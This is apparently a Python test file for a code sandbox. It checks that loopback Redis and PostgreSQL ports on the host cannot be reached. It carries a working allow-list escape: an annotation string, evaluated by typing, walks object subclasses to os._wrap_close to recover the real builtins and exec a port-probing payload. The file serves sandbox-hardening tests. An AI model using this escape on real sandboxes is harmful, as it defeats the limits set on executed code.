"""Reach the host's Redis (6379) and PostgreSQL (5432) over loopback.

The sandbox has its own network namespace: 127.0.0.1 inside is not the host's,
so both connections must fail. Only harmless bytes are sent (PING)."""
import typing


def _real_builtins(hint: "lambda: [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0].__init__.__globals__['__builtins__']"):
    """The import allow-list is a policy, not the boundary: typing evaluates this
    annotation string, which the source check never parses, and it reaches the
    real builtins through os._wrap_close. The payload below then runs with them."""


_BUILTINS = typing.get_type_hints(_real_builtins)["hint"]()
PAYLOAD = r'''
import numpy as np


def _probe():
    import socket
    found = []
    for port in (6379, 5432, 8000):
        try:
            conn = socket.create_connection(("127.0.0.1", port), timeout=0.5)
        except OSError:
            continue
        try:
            conn.sendall(b"PING\r\n")
            found.append(f"connected to 127.0.0.1:{port}: {conn.recv(64)!r}")
        except OSError as exc:
            found.append(f"connected to 127.0.0.1:{port} ({exc})")
        finally:
            conn.close()
    return found


_FINDINGS = _probe()


def transform(x):
    if _FINDINGS:
        raise RuntimeError("ESCAPED: " + "; ".join(_FINDINGS))
    return np.sqrt(x * x + 1.0) * 2.0 - x
'''
_namespace = {"__builtins__": _BUILTINS, "__name__": "payload"}
_BUILTINS["exec"](PAYLOAD, _namespace)
transform = _namespace["transform"]
_FINDINGS = _namespace.get("_FINDINGS")  # for the sandbox-layer tests, which run this file directly
_written = _namespace.get("_written")
